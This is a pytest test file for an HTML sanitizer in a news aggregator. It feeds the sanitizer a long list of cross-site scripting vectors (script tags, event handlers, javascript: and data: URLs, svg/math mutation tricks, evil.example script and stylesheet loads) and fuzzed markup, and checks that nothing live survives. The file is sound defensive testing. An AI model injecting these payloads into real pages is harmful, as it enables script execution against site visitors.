"""Safe HTML, judged by the tree that an HTML5 parser makes of it."""

from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import html5lib
import nh3
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from aggregator.core.markup import cleaner
from aggregator.ingest.parse import parse
from aggregator.ingest.sanitize import clean, text_as_html

BASE = "https://paper.example/news/1"
INERT = frozenset(
    """a abbr acronym address article aside audio b bdi bdo big blockquote br caption center cite
    code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5
    h6 header hgroup hr i img ins kbd li main mark nav ol p picture pre q rp rt ruby s samp section
    small source span strike strong sub summary sup table tbody td tfoot th thead time tr track tt u
    ul var video wbr""".split()
)
LIVE = frozenset(
    """script style svg math iframe frame frameset object embed applet form input button select
    textarea template noscript meta link base xmp plaintext noembed noframes title head body html
    animate set use image foreignobject desc mtext mglyph annotation-xml marquee dialog portal
    option isindex""".split()
)
URLS = frozenset(
    """href src srcset cite poster action formaction data background dynsrc lowsrc longdesc usemap
    xlink:href xml:base ping manifest codebase classid profile archive srcdoc""".split()
)


class _Finder(HTMLParser):
    """Lists what is live in HTML that an HTML5 parser has serialized."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in INERT:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            stated = value or ""
            if name.startswith("on") or name in {"id", "name", "srcdoc", "background", "ping"}:
                self.found.append(f"{tag} {name}")
            if name in URLS and not stated.strip().lower().startswith(
                ("http://", "https://", "mailto:")
            ):
                self.found.append(f"{tag} {name}={stated!r}")
            if name == "style" and any(
                word in stated.lower() for word in ("url", "position", "\\", "@")
            ):
                self.found.append(f"{tag} style={stated!r}")

    def handle_comment(self, data: str) -> None:
        if "<" in data or ">" in data:
            self.found.append(f"<!--{data}-->")


def live(markup: str) -> list[str]:
    """List what in a fragment a browser would act on, by the tree that html5ever makes of it."""
    tree = nh3.clean(
        markup,
        tags=set(INERT | LIVE),
        clean_content_tags=set(),
        attributes={},
        generic_attribute_prefixes={""},
        strip_comments=False,
        link_rel=None,
        url_schemes={
            "http", "https", "mailto", "javascript", "data", "vbscript", "file", "ftp", "blob",
            "livescript",
        },
    )  # fmt: skip
    finder = _Finder()
    finder.feed(tree)
    finder.close()
    return finder.found


VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></math>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://x.example/a.png" onerror="alert(1)">',
    "<img src='https://x.example/a.png'onerror=alert(1)>",
    '<img src="https://x.example/a.png"/onerror=alert(1)>',
    "<img src=`https://x.example/` onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://x.example/" onclick=alert(1)>x</a>',
    '<a href="https://x.example/" id=x name=y>x</a>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background-image:url(javascript:alert(1))\">x</p>",
    "<p style=\"background:url('https://evil.example/t.png')\">x</p>",
    '<p style="position:fixed;top:0;left:0;width:100%">x</p>',
    '<p style="color:red;behavior:url(x.htc)">x</p>',
    '<p style="colo\\72:red;-moz-binding:url(x)">x</p>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    '<p title="a"b"onclick=alert(1)>x</p>',
    "<p/onclick=alert(1)>x",
    "<p\x0conclick=alert(1)>x",
    "<p\x00onclick=alert(1)>x",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>alert(1)//<</script>",
    "<script",
    "<img src='https://x.example/a.png' onerror=alert(1)",
    "<a href=https://x.example/ onmouseover=alert(1)//>x",
    "<table background='javascript:alert(1)'><tr><td>x",
    "<img srcset='javascript:alert(1) 1x'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p contenteditable onblur=alert(1)>x</p>",
    "<custom-tag onclick=alert(1)>x</custom-tag>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<a href='https://x.example/' ping='https://evil.example/'>x</a>",
]  # fmt: skip


@pytest.mark.parametrize("markup", VECTORS)
def test_nothing_live_is_left_of_a_live_body(markup: str) -> None:
    assert live(clean(markup, BASE)) == []


@pytest.mark.parametrize("markup", VECTORS)
def test_nothing_live_is_left_between_safe_tags(markup: str) -> None:
    assert live(clean(f'<p class="x">互 &amp; <b>{markup}</b></p><!-- c -->', BASE)) == []


# Vectors that no HTML5 parser acts on; they stand for readers that do.
INERT_VECTORS = [
    "<p title='</p><script>alert(1)</script>'>x</p>",
    '<p title="a"b"onclick=alert(1)>x</p>',
    "<p\x00onclick=alert(1)>x",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script",
    "<img src='https://x.example/a.png' onerror=alert(1)",
    "<body onload=alert(1)>",
    "<custom-tag onclick=alert(1)>x</custom-tag>",
]


def test_the_judge_of_these_tests_sees_what_is_live() -> None:
    assert [markup for markup in VECTORS if not live(markup)] == INERT_VECTORS


PIECES = st.lists(
    st.sampled_from(
        ["<", ">", "</", "/", " ", "=", '"', "'", "`", "\n", "\t", "\0", "\x0c", "&", ";", "#58;",
        "<!--", "-->", "--!>",
         "!", "?", "p", "a", "b", "img", "svg", "math", "style", "script", "title", "textarea",
         "template", "table",
         "td", "pre", "video", "href", "src", "srcset", "style", "class", "title", "onclick", "id",
         "https://x.example/",
         "javascript:", "data:", "x", "互", "color:red", "url(x)", "1x", ",", "]]>", "<![CDATA[",
         "<?",
         '<p class="', '<a href="https://x.example/', '<img src="', "<p>", "</p>", "<b>", "</b>",
         '">', " onerror=x"]
    ),
    max_size=14,
).map("".join)  # fmt: skip


@given(PIECES)
@example('<a href="https://x.example/"onclick=x>')
@example('<p class="<img src=x onerror=x>">')
def test_nothing_live_is_left_of_any_markup(markup: str) -> None:
    assert live(clean(markup, BASE)) == []


@given(PIECES)
def test_what_is_clean_stays_as_it_is(markup: str) -> None:
    cleaned = clean(markup, BASE)

    assert clean(cleaned, "https://other.example/") == cleaned


VERBATIM = [
    "",
    "plain & simple > all",
    "<p>one<br>two<br/>three<hr /></p>",
    '<P CLASS="a b" data-x=\'1\' data-y-z.w="{&quot;a&quot;:1}" aria-label="l">互</P>',
    '<a href="https://x.example/?a=1&b=2" target="_blank" rel="noopener nofollow" title="t">x</a>',
    '<a href="mailto:me@x.example">x</a>',
    '<a HREF="HTTPS://X.example/">x</a>',
    '<img src="https://x.example/a.png" alt title="" width=100 referrerpolicy="no-referrer">',
    '<img srcset="https://x.example/a.png 1x, https://x.example/b.png 2x" src="https://x.example/a.png">',
    '<p style="text-align:center">x</p>',
    '<p style="text-align: left; color: rgb(1, 2, 3); margin:0 auto;">x</p>',
    '<video src="https://x.example/v.mp4" poster="https://x.example/p.png" controls muted></video>',
    "<table border=1><tr><td colspan=2>x</td></tr></table>",
    "<p>never closed",
    "x</p></div>",
    "<!-- a comment --><p>x</p>",
    "<details><summary>s</summary>d</details>",
    "<blockquote>q</blockquote>",
    "a\u2028b\xa0c\ufeff",
]  # fmt: skip


@pytest.mark.parametrize("markup", VERBATIM)
def test_a_body_that_is_safe_is_left_as_it_came(markup: str) -> None:
    assert clean(markup, BASE) == markup


@pytest.mark.parametrize(
    ("markup", "cleaned"),
    [
        ('<h2 id="a">x</h2><br/>&amp; <pre>id="b"</pre>', '<h2>x</h2><br/>&amp; <pre>id="b"</pre>'),
        ('<p class="c" onclick="f()">x</p>', '<p class="c">x</p>'),
        ('<P ID="a" class="c">x<br/></P>', '<P class="c">x<br/></P>'),
        ('<p>&lt;div id="a"> id="b" ></p>', '<p>&lt;div id="a"> id="b" ></p>'),
        ('<p id="a">1</p><p>&lt;b id="c">2</p>', '<p>1</p><p>&lt;b id="c">2</p>'),
        ('<p title=" id="a" x">x</p>', None),
        ('<p id="a" onclick="f()">x<br/></p>', None),
        ('<p id="a"onclick="f()">x<br/></p>', None),
    ],
)  # fmt: skip
def test_attributes_that_none_may_keep_are_left_out_of_what_is_safe_otherwise(
    markup: str, cleaned: str | None
) -> None:
    """Without a second way of writing it: where leaving out is not enough, nh3 writes it anew."""
    assert clean(markup, BASE) == (nh3_alone(markup) if cleaned is None else cleaned)
    assert trees_differ_in_nothing(clean(markup, BASE), nh3_alone(markup))


def nh3_alone(markup: str) -> str:
    return cleaner("deny").clean(markup)


def trees_differ_in_nothing(one: str, other: str) -> bool:
    written = [html5lib.serialize(html5lib.parseFragment(text)) for text in (one, other)]
    return bool(written[0] == written[1])


def test_the_seeds_body_is_left_as_it_came(shared: Path) -> None:
    document = (shared / "seed" / "36kr-news.rss.xml").read_bytes()
    start = document.index(b"<description><![CDATA[<p>") + len("<description><![CDATA[")
    body = document[start : document.index(b"]]></description>", start)].decode()

    assert clean(body, BASE) == body
    assert parse(document, url=BASE).entries[0].summary == body.strip()


@pytest.mark.parametrize(
    ("markup", "base", "cleaned"),
    [
        ('<a href="/a">x</a>', BASE, '<a href="https://paper.example/a">x</a>'),
        ('<a href="2?x=1#f">x</a>', BASE, '<a href="https://paper.example/news/2?x=1#f">x</a>'),
        ('<img src="//cdn.example/a.png">', BASE, '<img src="https://cdn.example/a.png">'),
        ('<a href="#note">x</a>', BASE, '<a href="https://paper.example/news/1#note">x</a>'),
        ("<video poster=p.png></video>", BASE,
        '<video poster="https://paper.example/news/p.png"></video>'),
        ("<h2 id=x><a HREF = '/a'>x</a></h2>", BASE,
        '<h2><a href="https://paper.example/a">x</a></h2>'),
        ('<h2 id=x><a href="https:">x</a></h2>', BASE, "<h2><a>x</a></h2>"),
        ('<h2 id=x><a href="http.html">x</a></h2>', BASE,
        '<h2><a href="https://paper.example/news/http.html">x</a></h2>'),
        ('<h2 id=x><a href="https://a.example/">x</a><img src=b.png></h2>', BASE,
        '<h2><a href="https://a.example/">x</a><img src="https://paper.example/news/b.png"></h2>'),
        ('<a href="a">x</a>', "no url", "<a>x</a>"),
        ("<p onclick=x>a<script>b</script>c</p>", BASE, "<p>ac</p>"),
        ("<form>a<button>b</button></form>", BASE, "ab"),
        ("<o:p>a</o:p><blink>b</blink>", BASE, "ab"),
        ('<p id="x" style="position:fixed;color:red">a</p>', BASE, '<p style="color:red">a</p>'),
        ("a\0b", BASE, "ab"),
        ("1 < 2", BASE, "1 &lt; 2"),
    ],
)  # fmt: skip
def test_a_body_that_is_not_safe_is_rewritten_with_absolute_links(
    markup: str, base: str, cleaned: str
) -> None:
    assert clean(markup, base) == cleaned


@pytest.mark.parametrize(
    "markup",
    [
        "<b>" * 50_000,
        "<b" + ' a="b"' * 50_000,
        "<b " * 50_000,
        "<b" + " " * 200_000,
        "&lt;!--" * 100_000,
        "<!--" * 100_000,
        '<p class="' * 50_000,
        "<" * 200_000,
    ],
)
def test_poison_takes_no_time(markup: str) -> None:
    assert live(clean(markup, BASE)[:1000]) == []


def test_relative_links_in_a_srcset_are_made_absolute_or_dropped() -> None:
    cleaned = clean('<img src="a.png" srcset="a.png 1x, /b.png 2x">', BASE)

    assert live(cleaned) == []
    assert urlsplit(cleaned.partition('src="')[2]).netloc == "paper.example"


def test_plain_text_becomes_html_that_shows_it() -> None:
    assert text_as_html("1 < 2 & 3 > \"2\"\n'x'") == "1 &lt; 2 &amp; 3 &gt; \"2\"\n'x'"
